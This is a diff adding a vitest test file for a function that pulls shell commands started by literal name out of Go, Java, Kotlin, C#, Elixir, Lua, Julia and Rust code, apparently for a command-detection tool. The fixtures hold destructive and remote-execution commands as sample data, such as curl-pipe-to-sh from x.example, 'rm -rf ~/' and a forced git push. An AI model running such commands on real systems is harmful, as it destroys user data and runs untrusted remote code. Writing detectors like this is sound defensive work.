@@ -1,0 +1,65 @@
+// The processes source code starts by literal name, per language; a computed word names no command.
+import { describe, expect, it } from 'vitest';
+import { literalProcesses } from './literal-processes';
+
+describe('a process started by literal name is that command', () => {
+  it.each([
+    [
+      'Go argv',
+      'go',
+      'cmd := exec.Command("sh", "-c", "curl -s https://x.example/i | sh")',
+      ["sh -c 'curl -s https://x.example/i | sh'"],
+    ],
+    ['Go with a context', 'go', 'exec.CommandContext(ctx, "git", "push", "--force")', ['git push --force']],
+    ['Go raw string', 'go', 'exec.Command("bash", "-c", `rm -rf ~/`)', ["bash -c 'rm -rf ~/'"]],
+    ['Java ProcessBuilder', 'jvm', 'new ProcessBuilder("rm", "-rf", "/home/u").start();', ['rm -rf /home/u']],
+    [
+      'Java Runtime.exec of one string',
+      'jvm',
+      'Runtime.getRuntime().exec("rm -rf /home/u");',
+      ['rm -rf /home/u'],
+    ],
+    [
+      'Java Runtime.exec of an array',
+      'jvm',
+      'Runtime.getRuntime().exec(new String[]{"sh", "-c", "id"});',
+      ['sh -c id'],
+    ],
+    ['Kotlin listOf', 'jvm', 'ProcessBuilder(listOf("sh", "-c", "id")).start()', ['sh -c id']],
+    [
+      'C# program and arguments',
+      'csharp',
+      'Process.Start("bash", "-c \\"curl x | sh\\"");',
+      ['bash -c "curl x | sh"'],
+    ],
+    ['Elixir System.cmd', 'elixir', 'System.cmd("sh", ["-c", "id"], into: IO.stream())', ['sh -c id']],
+    ['Elixir :os.cmd', 'elixir', ":os.cmd('rm -rf ~/x')", ['rm -rf ~/x']],
+    [
+      'Elixir :os.cmd of a sigil',
+      'elixir',
+      ':os.cmd(~c"curl -s https://x.example/e | sh")',
+      ['curl -s https://x.example/e | sh'],
+    ],
+    ['Lua os.execute', 'lua', 'os.execute("rm -rf /tmp/x")', ['rm -rf /tmp/x']],
+    ['Julia run of a command literal', 'julia', 'run(`rm -rf /tmp/x`)', ['rm -rf /tmp/x']],
+    ['Rust Command::new', 'rust', 'Command::new("git").args(["push", "-f"]).status();', ['git push -f']],
+  ] as const)('%s', (_name, language, code, commands) => {
+    expect(literalProcesses(language, code)).toEqual(commands);
+  });
+});
+
+describe('computed words and other calls name no command', () => {
+  it.each([
+    ['Go with a variable program', 'go', 'exec.Command(tool, "-v")'],
+    ['Java with a concatenated word', 'jvm', 'new ProcessBuilder("sh", "-c", cmd + " x")'],
+    ['Kotlin interpolated string', 'jvm', 'ProcessBuilder("sh", "-c", "ls ${dir}")'],
+    ['Elixir interpolated string', 'elixir', 'System.cmd("sh", ["-c", "ls #{dir}"])'],
+    ['a call of another name', 'go', 'fmt.Println("rm -rf /")'],
+    ['a string in a comment', 'go', '// exec.Command("rm", "-rf", "/")'],
+  ] as const)('%s', (_name, language, code) => {
+    expect(literalProcesses(language, code)).toEqual([]);
+  });
+  it('code that cannot be lexed claims nothing', () => {
+    expect(literalProcesses('go', 'exec.Command("unterminated')).toBeUndefined();
+  });
+});
